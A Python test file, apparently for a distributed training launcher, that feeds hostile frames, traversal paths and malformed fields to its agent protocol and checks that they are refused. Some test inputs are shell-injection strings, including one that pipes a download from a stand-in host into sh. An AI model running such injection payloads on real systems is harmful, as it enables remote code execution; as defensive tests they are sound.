"""Tests every message of an agent, also hostile variants: only that node may fail."""

from __future__ import annotations

import asyncio
import contextlib
import copy
import io
import json
import random
import re
import resource
import struct
import time
import zlib
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from unittest.mock import Mock, patch

import pytest

from each_case import each_case
from paceline.agent import frames, server
from paceline.agent.congestion import PIECE_BYTES
from paceline.agent.frames import (
    MAGIC,
    MAX_ANSWER,
    MAX_HELLO,
    Decoder,
    FrameError,
    encode,
)
from paceline.agent.surveys import facts
from paceline.launch.elastic.attempt import Attempt
from paceline.launch.elastic.retry_policy import RetryPolicy
from paceline.launch.nodes.fleet import Node
from paceline.launch.planning import planner
from paceline.launch.recorder import Recorder
from paceline.launch.terminal.screen import Screen
from paceline.remote import protocol
from paceline.remote.channel import Channel, HostUnresponsive, LoginError, ProtocolViolation
from paceline.remote.network import candidates
from paceline.remote.protocol import ANSWERS, BOOT, EVENTS, Conversation
from paceline.rundir.directory import RunDirectory
from paceline.spec import schema
from paceline.spec.errors import NodeError, PacelineError
from paceline.spec.events import KINDS, Event
from paceline.spec.hosts import Host
from paceline.spec.job import Entry, Job
from paceline.spec.schema import MAX_DIGITS, InvalidValue

AGENT = Path(server.__file__).parent
MAX_CPU_S = 5.0
MAX_MEMORY_BYTES = 500 << 20
VARIANTS = 60  # for each message
HEX = "ab" * 32
KEY = "0123456789abcdef01234567"
ENTRY = ["d/f", HEX, 0o644, 3]
STACK = {"state": "S", "stack": ['File "a.py", line 3 in f']}
SYSCALL = {"pid": 3, "call": "write", "on": "pipe:[4]", "readers": [3]}
STATE = {"cpu_s": 0.5, "moved": 9, "sent": 5, "switches": 4, "calls": ["0 1 barrier"], **SYSCALL,
          "unfinished": "", **STACK,
          "children": [{"name": "yes", "stack": [], **SYSCALL}]}  # fmt: skip
MEMORY = {"kills": 1, "limit": {"bytes": 5, "peak": None, "group": "/a"}, "kernel": ["x"]}

# request → its fields, a correct answer, and the data that follows
REQUESTS: dict[str, tuple[dict[str, Any], dict[str, Any], bytes]] = {
    "lease": ({"seconds": 10.0}, {"monotonic": 1.5, "time": 2.5}, b""),
    "prepare": ({}, {}, b""),
    "listen": ({"addresses": ["10.0.0.1"]}, {"ports": {"10.0.0.1": 77}, "errors": {}}, b""),
    "stop_listening": ({}, {}, b""),
    "connect": (
        {"targets": [{"host": "n2", "address": "10.0.0.2", "port": 7, "identity": "x"}]},
        {"results": [{"host": "n2", "address": "10.0.0.2", "port": 7, "ok": True, "rtt": 0.1,
                      "local_address": "10.0.0.1", "reached": "ab"}]}, b""),
    "reserve_port": ({"address": "10.0.0.1", "port": 0}, {"port": 29500}, b""),
    "start": ({"ranks": [{"rank": 0}]}, {}, b""),
    "add_ranks": ({"ranks": [{"rank": 0}]}, {}, b""),
    "tell_ranks": ({"line": {"control": "end", "why": "x"}}, {}, b""),
    "kill_ranks": ({"ranks": [0]}, {"killed": 1}, b""),
    "open_store": ({"address": "10.0.0.1", "addresses": ""}, {"port": 29500}, b""),
    "admit": ({"addresses": "10.0.0.1"}, {}, b""),
    "dump_stacks": ({}, {}, b""),
    "seen": ({}, {"ranks": [{"rank": 0, **STATE}]}, b""),
    "stop": ({"signal": 15}, {}, b""),
    "kill": ({}, {"killed": 2}, b""),
    "compare_tree": ({"manifest": [ENTRY]},
                     {"exists": True, "missing": ["d/f"], "different": []}, b""),
    "lacking_blobs": ({"manifest": [ENTRY]}, {"hashes": [HEX]}, b""),
    "put_blob": ({}, {}, b""),
    "put_blobs": ({}, {}, b""),
    "put_file": ({}, {}, b""),
    "place": ({}, {}, b""),
    "build_tree": ({"manifest": [ENTRY], "folder": "r", "name": "code"},
                   {"root": "/c/paceline/jobs/r/code", "damaged": []}, b""),
    "run_folder": ({"path": "/home/u/runs/1", "key": KEY},
                   {"shared": False, "folder": f"/c/paceline/runs/{KEY}"}, b""),
    "discard_run_folder": ({}, {}, b""),
    "keep_folder": ({}, {}, b""),
    "set_outputs_aside": ({}, {}, b""),
    "discard_uncollected": ({"shards": False}, {}, b""),
    "forget_outputs": ({}, {}, b""),
    "put_output": ({}, {}, b""),
    "list_outputs": ({}, {"latest_us": 9, "files": [
        {"path": "out/w.pt", "size": 3, "mtime_us": 5, "age_s": 0.5, "state": "whole"}]}, b""),
    "hash_beginning": ({}, {"sha256": HEX}, b""),
    "look": ({"paths": ["/a"]},
             {"paths": [{"path": "/a", "exists": True, "file": False, "executable": True}]}, b""),
    "which": ({}, {"path": "/usr/bin/x"}, b""),
    "disk": ({"paths": ["/a"]},
             {"disks": [{"path": "/", "total": 5, "free": 3, "writable": True}]}, b""),
    "list_results": ({}, {"files": [{"path": "model/w", "size": 3}]}, b""),
    "read_block": ({"count": 3, "last": True}, {"sha256": HEX}, b"abc"),
    "detached_runs": (
        {}, {"runs": [{"run_id": "ab" * 6, "about": "{}", "alive": None, "result": "",
                       "where": "", "metrics": "{}"}]}, b"",
    ),
    "run_changes": (
        {"run_id": "ab" * 6, "afresh": True},
        {"about": "{}", "alive": True, "root": "/h/run", "gone": ["ranks.json"],
         "files": [{"path": "logs/n1/0.log", "mark": "1.2", "size": 3}]}, b"",
    ),
    "read_part": (
        {"run_id": "ab" * 6, "path": "a/b", "offset": 4, "count": 3, "whole": False}, {}, b"xyz",
    ),
    "ask_run": ({"run_id": "ab" * 6, "wish": {"do": "state"}}, {"answer": "{}"}, b""),
    "signal_run": ({"run_id": "ab" * 6, "times": 1}, {"sent": True}, b""),
    "discard_run": ({"run_id": "ab" * 6, "fetched": True}, {"gone": True}, b""),
    "data_folder": ({"key": KEY, "name": "d"},
                    {"marks": ["1 2 3"], "folder": f"/c/paceline/data/{KEY}/files/d",
                     "sign": f"/c/paceline/data/{KEY}/seen-ab", "free": 5}, b""),
    "list_data": ({}, {"files": [["a/b", 3, 4]], "last": True}, b""),
    "hash_data": ({"paths": ["a", "b"]}, {"hashes": [HEX, ""]}, b""),
    "settle_data": ({}, {}, b""),
    "put_data_files": ({}, {}, b""),
    "have_data": ({}, {"size": 3, "sha256": HEX}, b""),
    "put_data": ({}, {}, b""),
    "job_processes": ({}, {"pids": [3]}, b""),
    "stay": ({"key": "ab" * 32}, {"place": "paceline-" + "ab" * 16}, b""),
    "rest": ({"place": "paceline-" + "ab" * 16, "key": "ab" * 32, "seconds": 60.0}, {}, b""),
    "bye": ({}, {}, b""),
    "clock": ({}, {"time": 1.0, "monotonic": 2.0}, b""),
    "resolve": ({"names": ["n1", "n2"]}, {"names": {"n1": ["10.0.0.1"], "n2": None}}, b""),
    "open_ports": ({"ports": [5, 6]}, {"opened": [5], "taken": {
        "6": {"error": "in use", "holders": [[3, "python"]]}}}, b""),
    "half_open": ({}, {"peers": [[5, "10.0.0.1"]], "rejects": ["10.0.0.0"]}, b""),
    "sink": ({}, {"port": 5}, b""),
    "transfer": ({}, {"bytes": 5, "seconds": 0.5, "pmtu": 1500, "rtt": 0.1,
                      "retransmitted": 0, "segments": 4}, b""),
    "counters": ({}, {"bytes": {"eth0": [1, 2]}}, b""),
    "leave_token": ({}, {"ok": False, "step": "write", "why": "no", "errno": 5}, b""),
    "see_tokens": ({"names": ["a"]}, {"exists": True, "seen": {"a": "x"}, "type": "nfs4"}, b""),
    "take_token": ({}, {}, b""),
    "digest_tree": ({}, {"exists": True, "files": 1, "bytes": 2, "digest": HEX}, b""),
    "token_processes": ({}, {"processes": [
        {"pid": 3, "run": "r", "owned": True, "age": 1.5, "command": "x",
         "warm": False}]}, b""),
    "execute": ({}, {"code": 0, "output": "x"}, b""),
    "gpus": ({}, {"missing": True}, b""),
    "unanswered": ({}, {"connections": [["10.0.0.2", 4711, 3]]}, b""),
    "hear": ({"address": "10.0.0.1", "seconds": 5.0}, {"port": 7}, b""),
    "packages": ({}, {"packages": {"torch": "2.13.0"}}, b""),
    "mpi": ({}, {"mpi": {"mpiexec": "/usr/bin/mpiexec.hydra", "setvars": "", "libfabric": "",
                         "missing_folders": {"FI_PROVIDER_PATH": "/opt/gone"}}}, b""),
    "vitals": ({"interfaces": ["eth0"]}, {"time": 1.5, "cpu": [3, 9], "memory": [8, 2],
                                          "links": {"eth0": [5, 6]}, "gpus": [0.5]}, b""),
}  # fmt: skip

EVENT_EXAMPLES: dict[str, list[dict[str, Any]]] = {
    "imported": [{"seconds": 1.5, "python": "3.11.2", "executable": "/p", "torch": "2.13.0",
                  "backends": ["gloo"]}],
    "import failed": [{"error": "ImportError: x", "traceback": "Traceback\n…"}],
    "fork server died": [{"status": -9, "time": 5.0, "memory": MEMORY}],
    "rank started": [{"rank": 0, "pid": 3}],
    "output": [{"rank": 0, "stream": "out"}],
    "said": [{"rank": 0, "data": data} for data in (
        {"kind": "event", "event": "checkpoint", "step": 5},
        {"kind": "event", "event": "world joined", "rank": 0},
        {"kind": "exception", "type": "E", "message": "m", "traceback": "t", "time": 3.0},
        {"kind": "progress", "step": 1, "steps": 2, "epoch": 1, "epochs": 2, "loss": 0.5,
         "samples_per_s": 10.0},
        {"kind": "metrics", "step": 1, "split": "train", "loss": 0.5},
        {"kind": "pace", "step": 1, "ranks_s": [[0.1] * 6], "rates": [12.5]},
        {"kind": "say", "text": "hello"},
        {"kind": "begin", "resumed": True},
        {"kind": "heartbeat", "step": 3, "phase": "forward"},
        {"kind": "event", "event": "recoverable", "able": False, "why": "its model is sharded"},
        {"kind": "event", "event": "interrupted", "step": 3, "error": "Connection reset"},
        {"kind": "event", "event": "newcomer ready"},
        {"kind": "event", "event": "session closed"},
        {"kind": "event", "event": "door closed", "why": "the script is in its second epochs"},
        {"kind": "event", "event": "regrouped", "generation": 1, "step": 3, "seconds": 0.1},
    )],
    "rank ended": [
        {"rank": 0, "code": 1, "signal": None, "time": 3.0, "peak_bytes": 5, "seen": STACK},
        {"rank": 0, "code": None, "signal": 9, "time": 3.0, "peak_bytes": 5, "memory": MEMORY},
    ],
    "store ended": [{"time": 5.0}],
    "rank frozen": [{"rank": 0, "how": "disk", "seconds": 10.2, "on": "read /a (nfs4)", "pid": 9}],
    "rank thawed": [{"rank": 0}],
    "leftovers killed": [{"count": 1}],
    "stranger at the store": [{"address": "10.0.0.9"}],
    "stranger at the tunnels": [{"address": "10.0.0.9"}],
    "connection altered": [
        {"address": "10.0.0.9"}, {"address": "10.0.0.9", "to_launcher": True},
    ],
    "node ended": [{"time": 5.0}],
    "asked to end": [{"time": 5.0}],
    "leaving": [{"reason": "lease", "why": "it ran out", "time": 5.0}],
}  # fmt: skip


def hello(**overrides: Any) -> dict[str, Any]:
    defaults = {
        "event": "hello",
        "pid": 5,
        "identity": "ab" * 16,
        "chosen_python": "/usr/bin/python3",
    }
    return {**defaults, "facts": copy.deepcopy(FACTS), **overrides}


FACTS = json.loads(json.dumps(facts.gather()))


# --- tables are equal to the agent's


def test_schema_and_frames_agree_on_max_digits() -> None:
    assert frames.MAX_DIGITS == MAX_DIGITS


def test_requests_have_schemas_and_examples() -> None:
    assert set(server.OPERATIONS) == set(ANSWERS) == set(REQUESTS)


def test_events_have_schemas_and_examples() -> None:
    posted = {
        name
        for file in (
            "server.py",
            "supervision/job.py",
            "supervision/rank_process.py",
            "ranks/forkserver.py",
        )
        for name in re.findall(r'"event": "([^"]+)"|event="([^"]+)"', (AGENT / file).read_text())
        for name in name
        if name
    }
    assert posted == set(EVENTS) == {"hello", *EVENT_EXAMPLES}


# --- a channel with chosen input


class FakeLink:
    """A link with the given input, followed by silence or its end."""

    def __init__(self, content: bytes, end: bool = True) -> None:
        self.reader, self.errors = asyncio.StreamReader(), asyncio.StreamReader()
        self.reader.feed_data(content)
        self.errors.feed_eof()
        if end:
            self.reader.feed_eof()
        self.status = None
        self.closes, self.num_writes = False, 0
        self.writer: Any = self
        self.transport = self

    def write(self, data: bytes) -> None:
        self.num_writes += 1

    def is_closing(self) -> bool:
        return self.closes

    async def drain(self) -> None:
        pass

    def close(self) -> None:
        self.reader.feed_eof()

    abort = close

    async def end(self, timeout_s: float) -> None:
        self.close()


def check_resources(work: Callable[[], Any]) -> Any:
    """Calls a function and checks that it takes little CPU time and memory."""
    baseline = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    start_time = time.thread_time()
    result = work()
    assert time.thread_time() - start_time < MAX_CPU_S * 3  # on a slow machine
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - baseline < MAX_MEMORY_BYTES
    return result


def open_channel(content: bytes, end: bool = True) -> Channel | LoginError:
    async def scenario() -> Channel | LoginError:
        channel = Channel(Host("n2"), FakeLink(content, end))  # type: ignore[arg-type]
        try:
            await channel.open()
        except LoginError as rejected:
            return rejected
        await channel.close()
        return channel

    result: Channel | LoginError = check_resources(lambda: asyncio.run(scenario()))
    return result


HAVE = BOOT + b"have\n"
BOOTS = {
    "no words": BOOT + b"\n",
    "an unknown word": BOOT + b"rm -rf\n",
    "old without more": BOOT + b"old\n",
    "old with too little": BOOT + b"old 3.8\n",
    "system without more": BOOT + b"system\n",
    "bytes": BOOT + bytes(range(128, 256)) + b"\n",
    "an endless line": BOOT + b"x" * (8 << 20),
    "an endless banner": b"welcome\n" * (1 << 20),
    "a banner without an end of line": b"\0" * (8 << 20),
    "nothing": b"",
    "only noise": b"Welcome!\n",
}


@pytest.mark.parametrize("case", BOOTS)
def test_rejects_hostile_first_lines(case: str) -> None:
    rejected = open_channel(BOOTS[case])
    assert isinstance(rejected, LoginError)
    assert rejected.refusal.details
    assert rejected.refusal.remedy


@pytest.mark.parametrize("noise", [b"", b"Welcome\n", b"x" * 300_000 + b"\n", MAGIC + b"\0" * 9])
def test_reads_hello_after_noise(noise: bytes) -> None:
    channel = open_channel(noise + HAVE + encode(hello()))
    assert isinstance(channel, Channel)
    assert channel.facts == FACTS
    assert len(channel.noise) <= 8192


def test_incomplete_hello_times_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("paceline.remote.channel.HELLO_STALL_S", 1.0)
    for content in (encode(hello())[:-1], MAGIC + struct.pack(">II", MAX_HELLO, 5) + b"{"):
        rejected = open_channel(HAVE + content, end=False)
        assert isinstance(rejected, LoginError)
        assert "and then nothing" in rejected.refusal.details


@pytest.mark.parametrize("content", [b"", MAGIC + struct.pack(">II", 99, 5) + b"{"])
def test_unresponsive_host_times_out(content: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    """Also in setup, without a run whose lease would detect it."""
    monkeypatch.setattr("paceline.remote.channel.POLL_S", 0.05)
    monkeypatch.setattr("paceline.remote.channel.SILENCE_TIMEOUT_S", 1.0)

    async def scenario() -> None:
        channel = Channel(Host("n2"), FakeLink(HAVE + encode(hello()) + content, end=False))  # type: ignore[arg-type]
        await channel.open()
        with pytest.raises(HostUnresponsive, match="fell silent"):
            await channel.request("execute", argv=["true"], input="", timeout_s=60)
        await channel.close()

    asyncio.run(asyncio.wait_for(scenario(), 60))


# --- frames


def header(body: int, blob: int = 0) -> bytes:
    return MAGIC + struct.pack(">II", body, blob)


def framed(body: bytes, blob: bytes = b"") -> bytes:
    return header(len(body), len(blob)) + body + blob


BODIES = {
    "deep lists": b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "deep tables": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "many digits": b'{"a":' + b"9" * 1_000_000 + b"}",
    "no object": b"[1,2]",
    "no JSON": b"{" * 40,
    "a half": b'{"event": "hello"',
    "bad UTF-8": b'{"a": "\xff\xfe"}',
    "two objects": b"{}{}",
    "nothing": b"",
}


@pytest.mark.parametrize("body", BODIES)
def test_decodes_frame_after_invalid_body(body: str) -> None:
    decoder = Decoder()
    valid = encode({"b": 1}, b"x")
    assert check_resources(lambda: decoder.feed(framed(BODIES[body]) + valid)) == [({"b": 1}, b"x")]


def test_rejects_non_finite_numbers() -> None:
    for text in ("NaN", "Infinity", "-Infinity", "1e400", "-1e400", "1E+999"):
        ((message, _),) = Decoder().feed(framed(b'{"re": 1, "monotonic": ' + text.encode() + b"}"))
        conversation = Conversation()
        conversation.add_request(1, "lease", {})
        with pytest.raises(InvalidValue, match="finite"):
            conversation.answer({**message, "time": 1.0}, b"")


def test_skips_oversized_frames() -> None:
    for oversized_header in (
        header(MAX_ANSWER + 1),
        header(10, 3 << 20),
        header(128 << 20),
        header(2**32 - 1),
    ):
        decoder = Decoder(max_json=MAX_ANSWER, max_blob=2 << 20)
        assert decoder.feed(oversized_header + b"{" + encode({"b": 1})) == [({"b": 1}, b"")]


def test_expensive_noise_raises_frame_error() -> None:
    decoder = Decoder(max_json=MAX_ANSWER)
    item = header(1 << 20) + b"{"
    with pytest.raises(FrameError):
        check_resources(lambda: [decoder.feed(item * 1000) for _ in range(10_000)])


def test_survives_mutated_frames() -> None:
    rng = random.Random(5)
    valid = encode(hello()) + encode({"re": 1}, b"blob")
    for _ in range(600):
        data = bytearray(valid[: rng.randrange(len(valid) + 1)])
        for _ in range(rng.randrange(8)):
            if data:
                data[rng.randrange(len(data))] = rng.randrange(256)
        decoder = Decoder(max_json=MAX_ANSWER)
        with contextlib.suppress(FrameError):
            decoder.feed(bytes(data) + rng.randbytes(rng.randrange(40)))
        assert len(decoder.noise) <= 8192


def test_largest_answer_needs_bounded_resources() -> None:
    body = b'{"a":[' + b"[]," * ((MAX_ANSWER - 20) // 3) + b"0]}"
    assert len(body) <= MAX_ANSWER
    check_resources(lambda: Decoder(max_json=MAX_ANSWER).feed(framed(body)))


@pytest.mark.parametrize("first", ["re", "event"])
def test_rejects_large_events_but_not_answers(first: str) -> None:
    """Parsing blocks the launcher's event loop, which has to renew the other hosts' leases."""
    body = b'{"%s":1,"a":[%s0]}' % (first.encode(), b"[]," * (frames.MAX_EVENT // 3))
    decoder = Decoder(max_json=MAX_ANSWER, max_event=frames.MAX_EVENT)
    if first == "re":
        assert len(decoder.feed(framed(body))) == 1
    else:
        with pytest.raises(FrameError, match="an event of 1 MiB"):
            decoder.feed(framed(body))


def test_compressed_event_has_limit_of_events() -> None:
    """Four kilobytes on the line could otherwise block the launcher for half a second."""
    event = b'{"event":"said","rank":0,"data":{"a":[%s0]}}' % (b"[]," * (frames.MAX_EVENT // 3))
    frame, header_fields = framed(event), {"part": 1, "more": True, "z": True}
    compressor, sent = zlib.compressobj(9), b""
    for start in range(0, len(frame), PIECE_BYTES[1]):
        piece = compressor.compress(frame[start : start + PIECE_BYTES[1]])
        sent += encode(header_fields, piece + compressor.flush(zlib.Z_SYNC_FLUSH))
    sent += encode({**header_fields, "more": False}, compressor.flush())
    assert len(sent) < 8192
    whole = encode({**header_fields, "more": False}, zlib.compress(frame, 9))
    for content, violation in ((sent, "an event of 1 MiB"), (whole, "a piece of more than 256 K")):
        with patch.object(frames, "_parse", wraps=frames._parse) as parse:
            channel = open_channel(HAVE + encode(hello()) + content)
        assert isinstance(channel, Channel)
        assert violation in channel.violation
        assert max(len(call.args[0]) for call in parse.call_args_list) < frames.MAX_EVENT


@pytest.mark.parametrize("num_bytes", [frames.MAX_OUTPUT, frames.MAX_OUTPUT + 1])
def test_limits_output_of_an_event(num_bytes: int) -> None:
    conversation = Conversation()
    conversation.event(hello(), b"")
    conversation.add_request(1, "start", {"ranks": [{"rank": 0}]})
    event = {"event": "output", "rank": 0, "stream": "out"}
    rejected = rejection_of(lambda: conversation.event(event, b"x" * num_bytes))
    assert bool(rejected) == (num_bytes > frames.MAX_OUTPUT)


def test_costly_frames_of_a_host_wait() -> None:
    async def scenario() -> None:
        link = FakeLink(HAVE + encode(hello()), end=False)
        channel = Channel(Host("n2"), link)  # type: ignore[arg-type]
        await channel.open()
        events: list[Event] = []
        channel.on_event = events.append
        channel._work_share.pause_s = lambda started_at, now: 3600.0  # type: ignore[method-assign]
        link.reader.feed_data(encode({"event": "asked to end", "time": 1.0}) * 2)
        for _ in range(100):
            await asyncio.sleep(0)
        assert [event.kind for event in events] == ["asked to end"]
        await channel.close()

    asyncio.run(scenario())


def test_limits_size_of_frequent_answers() -> None:
    conversation = Conversation()
    conversation.add_request(1, "lease", {})
    answer = {"re": 1, "monotonic": 1.0, "time": 1.0, "other": [[] for _ in range(200_000)]}
    with pytest.raises(InvalidValue, match="8 MiB in memory"):
        conversation.answer(answer, b"")


# --- hostile variants

INVALID_VALUES: list[Any] = [
    None, True, -1, 0, 2**40, 2**63, 10**19, 1e400, float("nan"), -1e308, "", "../../../x", "/etc",
    "\udcff\udc80", "\0", "\x1b]0;x\a", "n9", "x" * 5000, "x" * 2_000_000, [], {}, [[]], {"a": {}},
    json.loads("[" * 200 + "]" * 200), [1] * 50_000, {"x" * 5000: 1},
]  # fmt: skip


def variants(message: Any, rng: random.Random) -> Any:
    """Returns a copy with one value replaced, removed, duplicated or added."""
    changed = copy.deepcopy(message)
    places = list(_places(changed))
    holder, name = rng.choice(places) if places else (changed, "new")
    mutation = rng.randrange(6)
    if mutation == 0 and isinstance(holder, dict):
        holder.pop(name, None)
    elif mutation == 1 and isinstance(holder, list):
        holder.append(holder[name])
    elif mutation == 2 and isinstance(holder, dict):
        holder[rng.choice(["new", "../x", "\udcff"])] = rng.choice(INVALID_VALUES)
    else:
        holder[name] = rng.choice(INVALID_VALUES)
    return changed


def _places(value: Any) -> Any:
    items = value.items() if isinstance(value, dict) else enumerate(value)
    for name, item in list(items):
        yield value, name
        if isinstance(item, (dict, list)):
            yield from _places(item)


def rejection_of(deliver: Callable[[], Any]) -> str:
    """Returns the short reason why a message was refused, or an empty string."""
    try:
        deliver()
    except InvalidValue as lie:
        return str(lie) if len(str(lie)) < 400 else pytest.fail("too many words")
    return ""


@each_case("op", REQUESTS)
def test_rejects_hostile_answers(op: str) -> None:
    """An answer is either refused completely or allowed completely."""
    fields, answer, blob = REQUESTS[op]
    rng = random.Random(op)

    def deliver(content: Any, data: bytes = blob) -> None:
        conversation = Conversation()
        conversation.add_request(1, "start", {"ranks": [{"rank": 0}]})
        conversation.add_request(2, op, fields)
        conversation.answer({"re": 2, **content}, data)

    deliver(answer)
    deliver({"error": "no", "holders": [[3, "x"]]}, b"")
    for lie in ({"error": 5}, {"error": None}, {"error": "x", "holders": 3}):
        with pytest.raises(InvalidValue):
            deliver(lie, b"")
    with pytest.raises(InvalidValue, match="bytes with the answer"):
        deliver(answer, blob + b"x")
    if answer:
        lies = [rejection_of(lambda: deliver(variants(answer, rng))) for _ in range(VARIANTS)]
        assert sum(map(bool, lies)) > VARIANTS / 4


@each_case(
    ("op", "lie"),
    [
        ("list_results", {"files": [{"path": "../../.bashrc", "size": 3}]}),
        ("list_results", {"files": [{"path": "/etc/passwd", "size": 3}]}),
        ("list_results", {"files": [{"path": "a", "size": 3}, {"path": "a", "size": 3}]}),
        ("list_results", {"files": [{"path": "a", "size": -3}]}),
        (
            "list_outputs",
            {
                "latest_us": 9,
                "files": [
                    {"path": "../a", "size": 3, "mtime_us": 5, "age_s": 0.5, "state": "whole"}
                ],
            },
        ),
        (
            "list_outputs",
            {
                "latest_us": 9,
                "files": [{"path": "a", "size": 3, "mtime_us": -5, "age_s": 0.5, "state": "whole"}],
            },
        ),
        ("run_folder", {"shared": True, "folder": "/etc"}),
        ("run_folder", {"shared": False, "folder": "/home/u/runs/1"}),
        ("run_folder", {"shared": False, "folder": f"/c/paceline/runs/{'0' * 24}"}),
        ("run_folder", {"shared": False, "folder": f"/c\n/paceline/runs/{KEY}"}),
        ("build_tree", {"root": "/etc", "damaged": []}),
        ("build_tree", {"root": "/c/paceline/jobs/r/code", "damaged": ["cd" * 32]}),
        ("lacking_blobs", {"hashes": ["cd" * 32]}),
        ("lacking_blobs", {"hashes": ["../../x"]}),
        ("compare_tree", {"exists": True, "missing": ["other"], "different": []}),
        ("listen", {"ports": {"10.9.9.9": 77}, "errors": {}}),
        ("listen", {"ports": {"10.0.0.1": 0}, "errors": {}}),
        ("connect", {"results": [{"host": "n3", "address": "10.0.0.2", "port": 7, "ok": True}]}),
        ("resolve", {"names": {"n3": ["10.0.0.1"]}}),
        ("open_ports", {"opened": [7], "taken": {}}),
        ("look", {"paths": [{"path": "/b", "exists": True, "file": True, "executable": True}]}),
        ("disk", {"disks": []}),
        ("read_block", {}),
        ("see_tokens", {"exists": True, "seen": {"b": "x"}, "type": "x"}),
        ("seen", {"ranks": [{"rank": 7, **STATE}]}),
        (
            "vitals",
            {"time": 1.5, "cpu": [3, 9], "memory": [8, 2], "links": {"eth1": [5, 6]}, "gpus": []},
        ),
    ],
)
def test_rejects_answers_that_do_not_match_request(op: str, lie: dict[str, Any]) -> None:
    fields, _, blob = REQUESTS[op]
    conversation = Conversation()
    conversation.add_request(2, op, fields)
    with pytest.raises(InvalidValue):
        conversation.answer({"re": 2, **lie}, blob)


@pytest.mark.parametrize("number", [7, 0, -1, "1", None, [], {}, True, 1.0, 2**70])
def test_rejects_answers_with_unknown_id(number: Any) -> None:
    conversation = Conversation()
    conversation.add_request(2, "bye", {})
    with pytest.raises(InvalidValue):
        conversation.answer({"re": number}, b"")


def job() -> Job:
    return Job("job", Entry("script", "train.py"), "/work", "/p")


def test_rejects_hostile_hello() -> None:
    """Facts that are accepted cause no crash in planning."""
    rng = random.Random(7)
    rejected = 0
    for _ in range(400):
        content = hello(facts=variants(FACTS, rng)) if rng.random() < 0.8 else variants(
            hello(), rng)  # fmt: skip
        if rejection_of(
            lambda content=content: Conversation().event({"event": "hello", **content}, b"")
        ):
            rejected += 1
            continue
        hosts, reported = [Host("n1"), Host("n2")], {"n1": FACTS, "n2": content["facts"]}
        with contextlib.suppress(PacelineError):
            planner.check_agreement(hosts, job(), reported, {"n1": "/p", "n2": "/p"})
        with contextlib.suppress(PacelineError):
            candidates(hosts, reported, None)
        with contextlib.suppress(PacelineError):
            ranks = planner.processes_on(job(), hosts[1], content["facts"]).value
            planner.node_env(job(), hosts[1], content["facts"], ranks, None)
        json.dumps(reported)
    assert rejected > 100


@each_case("name", FACTS)
def test_rejects_hello_with_missing_fact(name: str) -> None:
    """An unavailable fact is null, as commands may read any of them."""
    content = hello()
    del content["facts"][name]
    assert rejection_of(lambda: Conversation().event({"event": "hello", **content}, b""))


@pytest.mark.parametrize("hard", ["9", None, [], 1.5])
def test_rejects_invalid_limits(hard: Any) -> None:
    content = hello()
    content["facts"]["limits"]["nofile_hard"] = hard
    assert rejection_of(lambda: Conversation().event({"event": "hello", **content}, b""))


SHELL_TEXTS = [
    "a/w",
    "*",
    "2.1; curl -s evil.example|sh #",
    "x';id;'",
    "$(id)",
    "`id`",
    "3.1\nOn n1: id",
]


@each_case("text", SHELL_TEXTS)
@each_case("fact", ["torch.version", "python.version", "name.hostname"])
def test_rejects_shell_commands_in_facts(fact: str, text: str) -> None:
    """Remedies for other hosts contain these facts."""
    content = hello(facts={**copy.deepcopy(FACTS), "torch": {"version": "2.1"}})
    group, key = fact.split(".")
    content["facts"][group][key] = text
    assert rejection_of(lambda: Conversation().event({"event": "hello", **content}, b""))


@each_case("text", ["fe80::1%x';id;'", "fe80::1%$(id)", "fe80::1%a\nOn n1: id"])
def test_rejects_shell_commands_in_zones_of_addresses(text: str) -> None:
    assert rejection_of(lambda: schema.address(text, "it"))
    assert not rejection_of(lambda: schema.address("fe80::1%eth0.5", "it"))


@pytest.mark.parametrize("version", ["2.13.0+cpu", "2.4.0a0+f70bd71a48.nv24.06", "2.1.2.post301"])
def test_allows_versions_of_torch_builds(version: str) -> None:
    content = hello(facts={**copy.deepcopy(FACTS), "torch": {"version": version}})
    assert Conversation().event({"event": "hello", **content}, b"")


@pytest.mark.parametrize("count", [1000, 200_000])
def test_rejects_events_with_large_memory_use(count: int) -> None:
    """A list of empty lists takes twenty times the memory of its text."""
    conversation = Conversation()
    conversation.event(hello(), b"")
    conversation.add_request(1, "start", {"ranks": [{"rank": 0}]})
    nested: list[Any] = [[] for _ in range(count)]
    report = {"event": "said", "rank": 0, "data": {"kind": "event", "event": "own", "a": nested}}
    assert conversation.event(report, b"") == (count == 1000)
    ended = {**EVENT_EXAMPLES["rank ended"][0], "event": "rank ended", "memory": {"a": nested}}
    rejected = rejection_of(lambda: conversation.event(ended, b""))
    assert bool(rejected) == (count != 1000)


@pytest.mark.parametrize("count", [1, 1000])
def test_limits_extra_fields_of_events(count: int) -> None:
    extra: list[Any] = [[] for _ in range(count)]
    report = {"kind": "checkpoint", "step": 3, "other": extra}
    message = {"event": "said", "rank": 0, "data": report}
    fields = Event.from_message("n1", message).fields
    assert fields == ({"step": 3, "other": [[]]} if count == 1 else {"step": 3})
    metrics = {"event": "said", "rank": 0, "data": {"kind": "metrics", "step": 3, "loss": 0.5}}
    assert Event.from_message("n1", metrics).fields == {"step": 3, "loss": 0.5}


def test_rejects_hostile_events(tmp_path: Path) -> None:
    """Accepted events can be recorded, displayed and evaluated."""
    rng = random.Random(11)
    directory = RunDirectory(tmp_path / "run")
    screen = Screen(out=io.StringIO(), err=io.StringIO())
    recorder = Recorder(directory, screen)
    baseline = set(list_files(tmp_path))
    total = sum(len(group) for group in EVENT_EXAMPLES.values()) * VARIANTS

    async def scenario() -> int:
        channel = Channel(Host("n2"), FakeLink(b""))  # type: ignore[arg-type]
        node = Node(channel.host, channel)
        fleet = SimpleNamespace(running=True, lease_s=10.0, nodes=[node], absence_s=0.0)
        rejected = 0
        for kind, examples in EVENT_EXAMPLES.items():
            for example in examples:
                for _ in range(VARIANTS):
                    rejected += deliver(kind, variants(example, rng), node, fleet)
        await channel.close()
        return rejected

    def deliver(kind: str, content: Any, node: Node, fleet: Any) -> int:
        conversation = Conversation()
        conversation.event(hello(), b"")
        conversation.add_request(1, "start", {"ranks": [{"rank": 0}]})
        message, blob = {"event": kind, **content}, b"x\n" if kind == "output" else b""
        try:
            if not conversation.event(message, blob):
                return 1
        except InvalidValue:
            return 1
        ranks = [SimpleNamespace(rank=0)]
